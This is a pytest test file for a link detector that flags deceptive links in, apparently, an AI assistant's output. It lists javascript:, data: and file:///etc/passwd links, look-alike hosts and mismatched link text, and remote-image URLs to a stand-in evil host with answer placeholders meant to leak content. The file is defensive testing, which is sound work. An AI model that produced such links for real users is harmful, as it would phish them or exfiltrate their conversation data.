"""Links that deceive, and the many that don't."""

import time

import pytest

from assistant.checking.links import find_links


@pytest.mark.parametrize(
    ("text", "faults"),
    [
        ("[a](javascript:alert(1))", ["scheme"]),
        ("[a](JaVaScRiPt:alert)", ["scheme"]),
        ("[a](data:text/html;base64,AAAA)", ["scheme"]),
        ("[a][1]\n\n[1]: file:///etc/passwd", ["scheme"]),
        ("<a href='vbscript:x'>a</a>", ["scheme"]),
        ("https://bank.example@jahat.example/masuk", ["user"]),
        ("lihat http://93.184.216.34/a", ["ip"]),
        ("lihat http://1572395042/a", ["ip"]),
        ("[a](http://xn--bnk-5na.example)", ["punycode"]),
        ("[www.bank.co.id](https://jahat.example/x)", ["mismatch"]),
        ("[https://kemensos.go.id](https://kemensos.go.id.jahat.example)", ["mismatch"]),
        ("<a href=\"https://jahat.example\">www.bank.co.id</a>", ["mismatch"]),
        ("![](https://gambar.example/a.png)", ["remote_image"]),
        ("<img src='https://gambar.example/a.png'>", ["remote_image"]),
        ("![](https://jahat.example/a?q={{jawaban}})", ["template", "remote_image"]),
        ("![](https://jahat.example/a?data=)", ["template", "remote_image"]),
        ("[a](https://jahat.example/?q=${isi})", ["template"]),
        (f"https://jahat.example/?x={'y' * 400}", ["long_query"]),
        # near misses
        ("[a](https://contoh.example/halaman?id=7)", []),
        ("[www.bank.co.id](https://login.bank.co.id/masuk)", []),
        ("[https://contoh.example](https://www.contoh.example/a)", []),
        ("[panduan.pdf](https://contoh.example/panduan.pdf)", []),
        ("[Kementerian Sosial](https://kemensos.go.id)", []),
        ("![bagan](gambar/bagan.png)", []),
        ("![bagan](data:image/png;base64,AAAA)", []),
        ("http://127.0.0.1:7860/ di komputer sendiri", []),
        ("[bagian](#bagian) dan [surel](mailto:a@contoh.example)", []),
        ("http://[salah", []),
        ("", []),
    ],
)  # fmt: skip
def test_faults(text: str, faults: list[str]) -> None:
    assert [link.fault for link in find_links(text)] == faults


def test_a_fault_is_told_once_with_its_place() -> None:
    text = "Satu\n\n[a](javascript:x) dan [b](javascript:x)"
    (link,) = find_links(text)
    assert (text[link.start :].startswith("[a]"), link.is_loaded) == (True, False)


@pytest.mark.parametrize("text", ["![](https://a.example/p?q=)", "<img src=https://a.example/?q=>"])
def test_images_are_loaded(text: str) -> None:
    assert {link.is_loaded for link in find_links(text)} == {True}


@pytest.mark.parametrize("piece", ["[", "[a](", "![a](http://x", "<a href=", "<img ", "http://"])
def test_hostile_text_takes_no_longer_than_its_length(piece: str) -> None:
    began = time.process_time()
    list(find_links(piece * (500_000 // len(piece))))
    assert time.process_time() - began < 5
